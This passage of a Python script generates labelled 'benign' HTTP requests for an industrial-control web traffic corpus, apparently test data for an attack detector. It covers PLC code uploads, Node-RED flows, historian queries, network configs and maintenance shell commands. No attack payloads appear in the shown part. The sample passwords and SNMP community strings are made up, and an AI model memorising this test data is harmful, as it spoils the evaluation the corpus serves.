            c.add("net-syslog", "benign", "POST", "/goform/setSysLog", c.browser(host, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", referer="/syslog.asp", xhr=False),
                  form([("enable", "1"), ("remote_host", r.choice(["198.51.100.20", "syslog.example.net"])), ("remote_port", r.choice(["514", "6514"])), ("level", str(r.randint(3, 7)))]))
        elif k == 5:
            c.add("net-snmp", "benign", "POST", "/goform/snmp", c.browser(host, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", xhr=False),
                  form([("snmp_enable", "1"), ("ro_community", r.choice(["pl4nt-RO!2025", "n0c#monitor", "ro_substation_7"])), ("rw_community", ""), ("trap_host", "192.0.2.50"),
                        ("sysLocation", r.choice(["Building B, rack 4 (U12-U14)", "Substation A / cabinet =+CP2", "Pump station #3"])), ("sysContact", "noc@example.com")]))
        elif k == 6:
            c.add("net-hostname", "benign", "POST", "/cgi-bin/system.cgi", c.browser(host, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", referer="/system.html", xhr=False),
                  form([("page", "system"), ("hostname", r.choice(["RTU17", "sw-floor2-a", "GW-PLANT2-01"])), ("domain", "plant.local"), ("save", "Apply")]))
        elif k == 7:
            c.add("net-ports", "benign", "GET", "/api/v1/interfaces?" + qs([("name", r.choice(["Gi1/0/12", "eth0", "ge-0/0/1", "Port 5"])), ("stats", "true")]), c.browser(host))
        elif k == 8:
            c.add("net-vlan", "benign", "POST", "/api/v1/vlans", c.browser(host, ctype="application/json"),
                  jdump({"id": r.choice([10, 20, 100, 502]), "name": r.choice(["OT-Control", "CCTV", "BMS", "Mgmt"]), "tagged": ["Gi1/0/1", "Gi1/0/2"], "untagged": ["Gi1/0/%d" % r.randint(3, 24)]}))
        elif k == 9:
            c.add("net-login", "benign", "POST", "/login.cgi", c.browser(host, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", cookie="", xhr=False),
                  form([("username", r.choice(["netadmin", "ot-engineer", "m.mueller"])), ("password", r.choice(["P@ss;w0rd!2025", "Tr0ub4dor&3", "correct horse battery staple", "Wint3r#Subst@tion"])), ("submit", "Login")]))
        elif k == 10:
            c.add("net-apply-ping", "benign", "POST", "/apply.cgi", c.browser(host, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", referer="/Diagnostics.asp", xhr=False),
                  form([("submit_button", "Diagnostics"), ("change_action", "gozila_cgi"), ("submit_type", "start_ping"), ("action", ""), ("commit", "0"), ("ping_ip", t), ("ping_size", "32"), ("ping_times", "5")]))
        else:
            c.add("net-dhcp", "benign", "GET", "/api/v1/dhcp/leases?" + qs([("pool", "OT-Control"), ("mac", "00:1B:1B:%02X:%02X:%02X" % (r.randint(0, 255), r.randint(0, 255), r.randint(0, 255)))]), c.browser(host))
    for i in range(4):
        c.add("net-luci-ping", "benign", "GET", "/cgi-bin/luci/;stok=%s/admin/network/diag_ping/%s" % (hexid(r, 32), pq(pick(r, targets), safe="")),
              c.browser(pick(r, DEV_HOSTS), accept="*/*", cookie="sysauth=%s" % hexid(r, 32), referer="/cgi-bin/luci/admin/network/diagnostics"))
    # page loads and static assets
    statics = [("/hmi/", ACCEPT_HTML), ("/hmi/screens/line3", ACCEPT_HTML), ("/js/app.%s.js" % hexid(r, 8), "*/*"), ("/js/chunk-vendors.%s.js" % hexid(r, 8), "*/*"),
               ("/css/hmi.%s.css" % hexid(r, 8), "text/css,*/*;q=0.1"), ("/images/symbols/pump_running.svg", "image/avif,image/webp,image/svg+xml,*/*;q=0.8"),
               ("/favicon.ico", "image/avif,image/webp,*/*;q=0.8"), ("/fonts/Roboto-Regular.woff2", "*/*"), ("/bms/floorplans/bldgB_L3.png", "image/avif,image/webp,*/*;q=0.8"),
               ("/status.html", ACCEPT_HTML), ("/Portal0000.htm", ACCEPT_HTML), ("/index.asp", ACCEPT_HTML), ("/cgi-bin/luci", ACCEPT_HTML), ("/webadmin/", ACCEPT_HTML),
               ("/manifest.webmanifest", "*/*"), ("/locales/de-DE.json", ACCEPT_JSON), ("/api/health", ACCEPT_JSON), ("/api/version", ACCEPT_JSON)]
    for path, acc in statics:
        host = pick(r, HMI_HOSTS + DEV_HOSTS + BMS_HOSTS)
        c.add("static", "benign", "GET", path, c.browser(host, accept=acc, xhr=False, referer="/hmi/" if acc != ACCEPT_HTML else None))
    for i in range(4):
        host = pick(r, HMI_HOSTS)
        c.add("hmi-websocket", "benign", "GET", "/ws/live?" + qs([("screen", r.choice(["Line3_Overview", "Boiler House"])), ("token", b64tok(r, 32))]),
              c.browser(host, accept="*/*", xhr=False) + [("Upgrade", "websocket"), ("Sec-WebSocket-Key", base64.b64encode(bytes(r.randint(0, 255) for _ in range(16))).decode()),
                                                           ("Sec-WebSocket-Version", "13"), ("Sec-WebSocket-Protocol", "hmi.v2")])
    for i in range(6):
        host = pick(r, HMI_HOSTS + EV_HOSTS + HIST_HOSTS)
        k = i % 3
        if k == 0:
            c.add("auth-login", "benign", "POST", "/api/auth/login", c.browser(host, ctype="application/json", cookie=""),
                  jdump({"user": pick(r, OPERATORS), "password": r.choice(["S0lar!Park#Nord", "k3ep-it-$imple", "Ölpumpe2025!", "x'7Kd\"9@pL"]), "remember": True}))
        elif k == 1:
            c.add("auth-refresh", "benign", "POST", "/api/auth/refresh", c.browser(host, ctype="application/json"), jdump({"refreshToken": b64tok(r, 64)}))
        else:
            c.add("auth-sso-callback", "benign", "GET", "/auth/callback?" + qs([("code", b64tok(r, 40)), ("state", hexid(r, 32)), ("session_state", "%s-%s" % (hexid(r, 8), hexid(r, 4)))]),
                  c.browser(host, accept=ACCEPT_HTML, xhr=False, referer="https://login.example.com/"))
    for i in range(4):
        c.add("report-run", "benign", "GET", "/reports/preview?" + qs([("title", r.choice(["Shift report - Line 3", "Daily energy (kWh) & peak demand", "Monthly KPI: OEE / MTBF / MTTR", "Boiler 01 - 24 h"])), ("period", r.choice(["24h", "7d", "30d"]))]),
              c.browser(pick(r, HIST_HOSTS), accept=ACCEPT_HTML, xhr=False))


# ---------------------------------------------------------------------------
# dev-content: legitimate requests whose user content is itself code
# ---------------------------------------------------------------------------

ST_PROGRAMS = [
    """PROGRAM TankControl
VAR
    Tank_Level : REAL;          (* m, from LT-101 *)
    Pump : BOOL := FALSE;
    HiAlarm, LoAlarm : BOOL;
END_VAR

IF Tank_Level > 90.0 THEN
    Pump := FALSE;
    HiAlarm := TRUE;
ELSIF Tank_Level < 10.0 THEN
    Pump := TRUE;
    LoAlarm := TRUE;
END_IF;
END_PROGRAM
""",
    """FUNCTION_BLOCK FB_Scale
VAR_INPUT
    rawIn : INT;      // 0..27648 from analog card
    engLo, engHi : REAL;
END_VAR
VAR_OUTPUT
    out : REAL;
END_VAR
out := engLo + (INT_TO_REAL(rawIn) / 27648.0) * (engHi - engLo);
IF out < engLo THEN out := engLo; END_IF;
IF out > engHi THEN out := engHi; END_IF;
END_FUNCTION_BLOCK
""",
    """(* Lead/lag pump alternation *)
CASE state OF
    0: (* idle *)
        IF Level_pct >= StartLevel THEN
            state := 10;
        END_IF;
    10: (* start lead *)
        IF LeadIsP1 THEN P1_Cmd := TRUE; ELSE P2_Cmd := TRUE; END_IF;
        IF Level_pct <= StopLevel THEN state := 20; END_IF;
    20: (* stop and swap *)
        P1_Cmd := FALSE; P2_Cmd := FALSE;
        LeadIsP1 := NOT LeadIsP1;
        state := 0;
END_CASE;
""",
    """VAR
    tonDelay : TON;
    i : INT;
    sum : REAL := 0.0;
    samples : ARRAY[1..10] OF REAL;
END_VAR
tonDelay(IN := Motor_Run AND NOT Fault, PT := T#5S);
IF tonDelay.Q THEN
    FOR i := 1 TO 10 DO
        sum := sum + samples[i];
    END_FOR;
    AvgCurrent := sum / 10.0;
END_IF;
""",
    """METHOD PUBLIC M_Reset : BOOL
VAR_INPUT
    bForce : BOOL;
END_VAR
IF bForce OR (eState = E_State.Faulted AND tSinceFault.ET > T#30S) THEN
    eState := E_State.Idle;
    nFaultCode := 0;
    sMsg := 'Reset by operator';
    M_Reset := TRUE;
END_IF
""",
    """// PID output clamp and bumpless transfer
IF ManualMode THEN
    PID_TIC102.Reset := TRUE;
    CV := ManualOutput;
ELSE
    PID_TIC102(SetPoint := SP, ActualValue := PV, KP := 2.5, TN := T#120S, TV := T#0S, Y_MANUAL := CV, Y_MIN := 0.0, Y_MAX := 100.0);
    CV := PID_TIC102.Y;
END_IF;
Valve_TV12_Out := REAL_TO_INT(CV * 276.48);
""",
]

NR_FUNCS = [
    "// scale 4-20 mA to 0-10 bar\nvar mA = msg.payload.ai1;\nmsg.payload = (mA - 4) * 10 / 16;\nmsg.topic = 'plant/pt205/pressure';\nreturn msg;",
    "const v = Number(msg.payload);\nif (isNaN(v)) { node.warn('bad value: ' + msg.payload); return null; }\nif (v > 90) {\n  return [null, { payload: { tag: 'LT-101', state: 'HI', value: v } }];\n}\nreturn [msg, null];",
    "// decode Modbus holding registers (int16, scale 0.1)\nconst buf = Buffer.from(msg.payload);\nmsg.payload = {\n  temp: buf.readInt16BE(0) / 10,\n  flow: buf.readUInt16BE(2) / 10,\n  status: buf.readUInt16BE(4) & 0x0F\n};\nreturn msg;",
    "let count = context.get('count') || 0;\ncount += 1;\ncontext.set('count', count);\nflow.set('lastSeen', new Date().toISOString());\nnode.status({ fill: 'green', shape: 'dot', text: `msgs: ${count}` });\nreturn msg;",
    "// build OCPP MeterValues from smart meter JSON\nconst e = msg.payload.E_import_kWh * 1000;\nmsg.payload = [2, RED.util.generateId(), 'MeterValues', { connectorId: 1, meterValue: [{ timestamp: new Date().toISOString(), sampledValue: [{ value: e.toFixed(1), measurand: 'Energy.Active.Import.Register', unit: 'Wh' }] }] }];\nreturn msg;",
    "const alarms = global.get('alarms') || {};\nfor (const [tag, a] of Object.entries(alarms)) {\n  if (a.active && !a.acked && Date.now() - a.since > 15 * 60 * 1000) {\n    node.send({ topic: 'escalate', payload: `${tag} unacked > 15 min` });\n  }\n}\nreturn null;",
    "msg.headers = { 'Content-Type': 'application/json' };\nmsg.url = 'https://historian.example.com/historian/api/v1/ingest';\nmsg.payload = JSON.stringify({ source: 'nodered', points: msg.payload.map(p => ({ tag: p.name, t: p.ts, v: p.value })) });\nreturn msg;",
    "// SQL for the node-red-node-mssql node\nmsg.topic = \"INSERT INTO ShiftLog (ts, line, counter, operator) VALUES (@ts, @line, @counter, @op)\";\nmsg.payload = { ts: new Date(), line: 'L3', counter: msg.payload.count, op: msg.user || 'auto' };\nreturn msg;",
]

HIST_SQL = [
    "SELECT TagName, DateTime, Value, Quality FROM History\nWHERE TagName IN ('FIC101.PV', 'TIC102.PV', 'LT-101.PV')\n  AND DateTime >= '2025-12-01 00:00:00' AND DateTime < '2025-12-02 00:00:00'\n  AND wwRetrievalMode = 'Cyclic' AND wwResolution = 60000\nORDER BY DateTime",
    "SELECT TagName, StartDateTime, Average, Minimum, Maximum FROM AnalogSummaryHistory WHERE TagName LIKE 'Area1.%.Temp' AND StartDateTime >= DATEADD(hh, -24, GETDATE()) AND wwResolution = 3600000",
    "SELECT mean(\"value\") FROM \"boiler_temp\" WHERE \"site\" = 'plant1' AND time > now() - 24h GROUP BY time(5m), \"line\" fill(previous)",
    "from(bucket: \"telemetry\")\n  |> range(start: -1h)\n  |> filter(fn: (r) => r._measurement == \"kw_total\" and r.site == \"plant1\")\n  |> aggregateWindow(every: 1m, fn: mean, createEmpty: false)\n  |> yield(name: \"mean\")",
    "SELECT time_bucket('15 minutes', ts) AS bucket, tag, avg(value) AS avg_v, max(value) AS max_v\nFROM readings\nWHERE tag LIKE 'Substation/Feeder%/Ia' AND ts > now() - interval '7 days'\nGROUP BY bucket, tag\nORDER BY bucket DESC;",
    "-- energy per meter, both historian archives\nSELECT meter_id, sum(kwh) AS kwh FROM energy_2024 WHERE month = 12 GROUP BY meter_id\nUNION ALL\nSELECT meter_id, sum(kwh) AS kwh FROM energy_2025 WHERE month = 12 GROUP BY meter_id;",
    "SELECT e.Name, e.Description, a.Name AS Attribute, a.Value FROM Master.Element.Element e INNER JOIN Master.Element.Attribute a ON a.ElementID = e.ID WHERE e.Name LIKE 'Pump%' AND a.Name = 'Run Hours'",
    "SELECT COUNT(*) AS starts, DATE(ts) AS day FROM events WHERE tag = 'P-101.Run' AND value = 1 AND prev_value = 0 GROUP BY DATE(ts) HAVING COUNT(*) > 6",
    "SELECT tag, value, CASE WHEN value > hi_limit THEN 'HI' WHEN value < lo_limit THEN 'LO' ELSE 'OK' END AS state FROM v_current_values WHERE area = 'Boiler House'",
]

REPORT_TPLS = [
    "<h1>Shift report {{ shift.name }} - {{ shift.start|date('Y-m-d H:i') }}</h1>\n<table>\n<tr><th>Time</th><th>Tag</th><th>Message</th></tr>\n{% for a in alarms %}\n<tr><td>{{ a.time|datetime }}</td><td>{{ a.tag }}</td><td>{{ a.message|e }}</td></tr>\n{% endfor %}\n</table>",
    "Alarm {{ alarm.tag }} is {{ alarm.state }} ({{ alarm.value | round(1) }} {{ alarm.unit }}) at {{ alarm.time }}.\n{% if alarm.priority <= 2 %}Please respond within 15 minutes.{% endif %}",
    "<p>Energy yesterday: <b>${report.energy_kwh?string(\"0.0\")} kWh</b>, peak ${report.peak_kw} kW at ${report.peak_time}</p>\n<#list report.meters as m><li>${m.name}: ${m.kwh} kWh</li></#list>",
    "{{#each chargers}}<tr><td>{{id}}</td><td>{{status}}</td><td>{{energy_kwh}} kWh</td></tr>{{/each}}",
    "<div th:each=\"p : ${pumps}\"><span th:text=\"${p.name}\">P-101</span>: <span th:text=\"${#numbers.formatDecimal(p.runHours, 1, 1)}\">0</span> h</div>",
    "OEE = {{ (availability * performance * quality * 100) | round(1) }} %\nMTBF: {{ mtbf_h }} h, MTTR: {{ mttr_h }} h",
]

NET_CONFIGS = [
    "hostname sw-floor2-a\n!\ninterface Gi0/1\n description Uplink to core\n switchport mode trunk\n switchport trunk allowed vlan 10,20,502\n!\ninterface Gi0/5\n description PLC1 (OT-Control)\n switchport access vlan 502\n spanning-tree portfast\n!\nip route 0.0.0.0 0.0.0.0 10.0.0.1\n!",
    "access-list 101 permit tcp 10.10.0.0 0.0.255.255 host 10.20.0.5 eq 502\naccess-list 101 permit tcp host 10.10.5.20 host 10.20.0.5 eq 102\naccess-list 101 deny ip any any log\n!\ninterface Vlan502\n ip access-group 101 in",
    "snmp-server community n0c#monitor RO 99\nsnmp-server location Building B, rack 4\nsnmp-server host 192.0.2.50 version 2c n0c#monitor\nlogging host 198.51.100.20\nntp server 192.0.2.123 prefer\nntp server ntp1.example.net",
    "set interfaces ge-0/0/1 unit 0 family inet address 10.20.0.1/24\nset routing-options static route 0.0.0.0/0 next-hop 10.0.0.1\nset system syslog host 198.51.100.20 any notice\nset system ntp server 192.0.2.123",
    "/ip address add address=10.20.0.1/24 interface=ether2\n/ip route add dst-address=0.0.0.0/0 gateway=10.0.0.1\n/ip firewall filter add chain=forward protocol=tcp dst-port=502 src-address=10.10.0.0/16 action=accept comment=\"Modbus from SCADA\"",
    "# iptables rules for edge gateway\n-A INPUT -i lo -j ACCEPT\n-A INPUT -p tcp --dport 1880 -s 10.10.0.0/16 -j ACCEPT\n-A INPUT -p tcp --dport 502 -s 10.20.0.0/24 -j ACCEPT\n-A INPUT -m state --state ESTABLISHED,RELATED -j ACCEPT\n-A INPUT -j DROP",
    "config interface 'lan'\n\toption proto 'static'\n\toption ipaddr '10.20.0.1'\n\toption netmask '255.255.255.0'\n\nconfig route\n\toption interface 'wan'\n\toption target '0.0.0.0/0'\n\toption gateway '10.0.0.1'",
]

SHELL_CMDS = ["ip -br addr", "tail -n 100 /var/log/messages | grep -i modbus", "systemctl restart mosquitto && systemctl status mosquitto --no-pager",
              "ping -c 4 10.20.0.1", "df -h /data; free -m", "cat /etc/os-release", "ls -l /opt/edge/config/*.json", "journalctl -u node-red --since '1 hour ago' | tail -50"]

HMI_SCRIPTS = [
    ("python", "def valueChanged(tag, tagPath, previousValue, currentValue, initialChange, missedEvents):\n    if not initialChange and currentValue.value > 90.0:\n        system.tag.writeBlocking(['[default]Line3/Pump_Cmd'], [False])\n        system.util.getLogger('TankLevel').warn('Level %.1f > 90, pump stopped' % currentValue.value)"),
    ("vbscript", "Dim lvl\nlvl = HMIRuntime.Tags(\"Tank_Level\").Read\nIf lvl > 90 Then\n    HMIRuntime.Tags(\"Pump\").Write 0\n    HMIRuntime.Trace \"Pump stopped, level=\" & lvl & vbCrLf\nEnd If"),
    ("javascript", "// calculated tag: flow in m3/h from pulse counter\nconst pulses = tags['FT-301.Pulses'];\nconst dt = (now - tags['FT-301.Pulses'].timestamp) / 3600000;\nreturn dt > 0 ? (pulses * 0.01) / dt : 0;"),
    ("expression", "if({[default]Boiler_01/Drum_Pressure} > 12.5 && {[default]Boiler_01/Burner_On}, 'HIGH', if({[default]Boiler_01/Drum_Pressure} < 2, 'LOW', 'NORMAL'))"),
]


def gen_devcontent(c):
    r = c.rng
    D = "dev-content"
    pous = ["TankControl", "FB_Scale", "PumpAlternation", "MotorMonitor", "FB_Valve", "PID_Boiler"]
    for i, src in enumerate(ST_PROGRAMS + ST_PROGRAMS[:4]):
        host = pick(r, HMI_HOSTS + GW_HOSTS)
        k = i % 3
        pou = pous[i % len(pous)]
        if k == 0:
            c.add("st-source", D, "PUT", "/api/plc/programs/%s/source" % pou, c.browser(host, ctype="text/plain; charset=utf-8", accept="application/json"), src)
        elif k == 1:
            c.add("st-source-json", D, "POST", "/api/plc/PLC%d/pous" % r.randint(1, 9), c.api(host, ctype="application/json"),
                  jdump({"name": pou, "language": "ST", "source": src, "comment": "rev %d, %s" % (r.randint(2, 60), pick(r, OPERATORS))}))
        else:
            ct, body = multipart(r, [("project", None, None, "Line3"), ("file", "%s.st" % pou, "text/plain", src)])
            c.add("st-upload", D, "POST", "/api/projects/Line3/import", c.browser(host, ctype=ct), body)
    il = "(* start/stop seal-in *)\nLD    Start_PB\nOR    Motor_Run\nANDN  Stop_PB\nANDN  Overload\nST    Motor_Run\n"
    c.add("il-source", D, "PUT", "/api/plc/programs/SealIn/source", c.browser(pick(r, HMI_HOSTS), ctype="text/plain; charset=utf-8"), il)
    plcopen = ('<?xml version="1.0" encoding="utf-8"?>\n<project xmlns="http://www.plcopen.org/xml/tc6_0201" xmlns:xhtml="http://www.w3.org/1999/xhtml">\n'
               '  <fileHeader companyName="Acme" productName="PLC Studio" productVersion="3.5" creationDateTime="2025-11-03T10:12:00"/>\n'
               '  <contentHeader name="Line3"><coordinateInfo><fbd><scaling x="1" y="1"/></fbd><ld><scaling x="1" y="1"/></ld><sfc><scaling x="1" y="1"/></sfc></coordinateInfo></contentHeader>\n'
               '  <types><dataTypes/><pous><pou name="TankControl" pouType="program"><interface><localVars><variable name="Tank_Level"><type><REAL/></type></variable>'
               '<variable name="Pump"><type><BOOL/></type></variable></localVars></interface>\n    <body><ST><xhtml:p><![CDATA[IF Tank_Level > 90.0 THEN Pump := FALSE; END_IF;\nIF Tank_Level < 10.0 THEN Pump := TRUE; END_IF;]]></xhtml:p></ST></body></pou></pous></types>\n'
               '  <instances><configurations><configuration name="Config0"><resource name="Res0"><task name="Main" interval="T#100ms" priority="1"><pouInstance name="inst0" typeName="TankControl"/></task></resource></configuration></configurations></instances>\n</project>\n')
    ct, body = multipart(r, [("projectName", None, None, "Line3"), ("file", "Line3.xml", "text/xml", plcopen)])
    c.add("plcopen-upload", D, "POST", "/api/projects/import", c.browser(pick(r, HMI_HOSTS), ctype=ct), body)
    c.add("plcopen-put", D, "PUT", "/api/plc/PLC2/project", c.api(pick(r, GW_HOSTS), ctype="application/xml"), plcopen)

    # Node-RED flows with function nodes
    for i in range(10):
        host = pick(r, NR_HOSTS)
        tab = hexid(r, 16)
        ids = [hexid(r, 16) for _ in range(4)]
        func = NR_FUNCS[i % len(NR_FUNCS)]
        flow = [
            {"id": tab, "type": "tab", "label": r.choice(["Line 3 telemetry", "Alarm escalation", "Meter to OCPP", "Modbus poller"]), "disabled": False, "info": ""},
            {"id": ids[0], "type": "mqtt in", "z": tab, "name": "", "topic": r.choice(["site1/+/plc1/#", "plant/boiler01/#"]), "qos": "1", "datatype": "json", "broker": ids[3], "x": 140, "y": 120, "wires": [[ids[1]]]},
            {"id": ids[1], "type": "function", "z": tab, "name": r.choice(["scale", "check limits", "decode registers", "to OCPP"]), "func": func, "outputs": 2 if "[null" in func else 1,
             "noerr": 0, "initialize": "", "finalize": "", "libs": [], "x": 360, "y": 120, "wires": [[ids[2]], []] if "[null" in func else [[ids[2]]]},
            {"id": ids[2], "type": "debug", "z": tab, "name": "", "active": True, "tosidebar": True, "complete": "payload", "x": 570, "y": 120, "wires": []},
            {"id": ids[3], "type": "mqtt-broker", "name": "plant broker", "broker": "mqtt.plant.example.net", "port": "8883", "usetls": True, "protocolVersion": "4"},
        ]
        k = i % 3
        if k == 0:
            c.add("nodered-deploy", D, "POST", "/flows", c.browser(host, ctype="application/json; charset=utf-8", referer="/")
                  + [("Node-RED-API-Version", "v2"), ("Node-RED-Deployment-Type", r.choice(["full", "nodes", "flows"]))], jdump({"flows": flow, "rev": hexid(r, 32)}))
        elif k == 1:
            c.add("nodered-flow", D, "PUT", "/flow/" + tab, c.api(host, ctype="application/json"),
                  jdump({"id": tab, "label": flow[0]["label"], "nodes": flow[1:4], "configs": [flow[4]]}))
        else:
            c.add("nodered-import", D, "POST", "/api/flows/import", c.browser(host, ctype="application/json"), jpretty(flow))

    # historian SQL / InfluxQL / Flux
    for i, q in enumerate(HIST_SQL):
        host = pick(r, HIST_HOSTS)
        k = i % 3
        if k == 0:
            c.add("hist-sql", D, "POST", "/historian/api/v1/sql", c.api(host, ctype="application/json"), jdump({"query": q, "timeoutSec": 30, "maxRows": 10000}))
        elif k == 1:
            c.add("hist-sql-form", D, "POST", "/historian/query-tool", c.browser(host, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", xhr=False, referer="/historian/query-tool"),
                  form([("sql", q), ("format", "table"), ("csrf", b64tok(r, 32))]))
        else:
            if q.startswith("from("):
                c.add("hist-flux", D, "POST", "/api/v2/query?org=plant", c.api(host, ctype="application/vnd.flux", accept="application/csv"), q)
            else:
                c.add("hist-sql-get", D, "GET", "/query?" + qs([("db", "telemetry"), ("q", q), ("epoch", "ms")]), c.api(host))

    # report templates
    for i, t in enumerate(REPORT_TPLS):
        host = pick(r, HIST_HOSTS + HMI_HOSTS)
        if i % 2 == 0:
            c.add("report-template", D, "POST", "/api/reports/templates", c.browser(host, ctype="application/json"),
                  jdump({"name": r.choice(["Shift report", "Daily energy", "Charger summary", "KPI"]), "format": "html", "body": t}))
        else:
            c.add("notification-template", D, "PUT", "/api/notifications/templates/%s" % r.choice(["alarm-email", "alarm-sms", "daily-digest"]), c.browser(host, ctype="application/json"),
                  jdump({"subject": "[{{ site }}] Alarm {{ alarm.tag }}", "body": t, "channel": "email"}))

    # network device configuration snippets
    for i, cfg in enumerate(NET_CONFIGS):
        host = pick(r, DEV_HOSTS)
        k = i % 3
        if k == 0:
            ct, body = multipart(r, [("merge", None, None, "true"), ("config", "%s.cfg" % r.choice(["sw-floor2-a", "rtr-plant2", "gw-edge01"]), "text/plain", cfg)])
            c.add("netcfg-upload", D, "POST", "/api/v1/config/restore", c.browser(host, ctype=ct), body)
        elif k == 1:
            c.add("netcfg-cli", D, "POST", "/api/v1/cli", c.api(host, ctype="application/json"), jdump({"mode": "configure", "commands": cfg.split("\n"), "commit": True}))
        else:
            c.add("netcfg-ticket", D, "POST", "/api/tickets/%d/notes" % r.randint(100, 9999), c.browser(pick(r, TICKET_HOSTS), ctype="application/json"),
                  jdump({"note": "Applied the following change (CHG-%d):\n%s" % (r.randint(1000, 9999), cfg), "visibility": "team"}))

    # remote-maintenance gateway shell (a feature, used on purpose by authorised engineers)
    for i in range(6):
        cmd = SHELL_CMDS[i]
        c.add("gw-shell", D, "POST", "/api/devices/GW-%02d/shell" % r.randint(1, 40), c.browser(pick(r, GW_HOSTS), ctype="application/json", referer="/devices/console"),
              jdump({"command": cmd, "timeoutSec": 20, "sessionId": hexid(r, 16)}))

    # HMI / calculated-tag scripts
    for lang, code in HMI_SCRIPTS:
        c.add("hmi-script", D, "PUT", "/api/tags/%s/script" % pq(pick(r, TAGS), safe=""), c.browser(pick(r, HMI_HOSTS), ctype="application/json"),
              jdump({"language": lang, "event": "valueChanged" if lang != "expression" else "expression", "code": code, "enabled": True}))

    # HMI graphics (SVG symbols)
    for i in range(2):
        svg = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64" width="64" height="64">\n'
               '  <title>Pump %s</title>\n  <circle cx="32" cy="32" r="24" fill="none" stroke="#333" stroke-width="3"/>\n'
               '  <path d="M20 44 L32 14 L44 44 Z" fill="{{state == \'running\' ? \'#2e7d32\' : \'#9e9e9e\'}}"/>\n'
               '  <animateTransform attributeName="transform" type="rotate" from="0 32 32" to="360 32 32" dur="2s" repeatCount="indefinite"/>\n</svg>\n') % r.choice(["running", "centrifugal", "dosing"])
        ct, body = multipart(r, [("library", None, None, "pumps"), ("file", "pump_%d.svg" % i, "image/svg+xml", svg)])
        c.add("hmi-symbol-upload", D, "POST", "/api/graphics/symbols", c.browser(pick(r, HMI_HOSTS + BMS_HOSTS), ctype=ct), body)

    # technician notes with pasted logs
    logs = [
        "Controller log around the trip:\n2025-12-04 03:12:44.120 <Error> [Modbus] Slave 7 timeout (fc=3, addr=40012, len=4)\n2025-12-04 03:12:44.121 <Warn> Tag 'FT-301.Flow' quality -> BAD (0x80340000)\n2025-12-04 03:12:51.002 <Info> Slave 7 back online",
        "dmesg on GW-07:\n[123456.789] eth1: Link is Down\n[123460.012] eth1: Link is Up - 100Mbps/Full - flow control off\n-> replaced patch cable on port 3; no more flaps since.",
        "Inverter event list: E-031 (Riso < 100 kOhm) x3 between 06:10 and 06:40 with dew; value recovered > 1 MOhm after 07:00. Checked string 2 connectors, one MC4 had water ingress -> replaced.",
    ]
    for lg in logs:
        c.add("ticket-log-note", D, "POST", "/tickets/%d/notes" % r.randint(100, 9999), c.browser(pick(r, TICKET_HOSTS), accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", xhr=False),
              form([("note", lg), ("hours", "1"), ("visibility", "team")]))


def gen_benign():
    c = Corpus("benign", SEED_BENIGN)
    gen_hmi(c)
    gen_historian(c)
    gen_ocpp(c)
    gen_meter_bms(c)
    gen_plc_tickets(c)
    gen_gateway_mqtt_opc(c)
    gen_netdev_static(c)
    gen_devcontent(c)
    return c.rows


def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign"):
        sys.stderr.write("usage: %s attacks|benign\n" % argv[0])
        return 2
    rows = gen_attacks() if argv[1] == "attacks" else gen_benign()
    out = sys.stdout
    for row in rows:
        out.write(json.dumps(row, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
